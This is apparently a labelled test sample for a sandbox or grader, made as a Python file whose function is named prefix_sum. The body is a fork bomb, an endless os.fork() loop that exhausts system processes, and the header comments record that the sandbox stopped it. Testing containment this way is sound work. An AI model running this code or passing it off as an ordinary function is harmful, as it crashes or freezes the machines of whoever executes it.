# Forks without end.
# of: prefix-sum
# verdict: error
# says: PermissionError
# without: not run, they would be too many before they are found
import os


def prefix_sum(x, reverse=False):
    while True:
        os.fork()
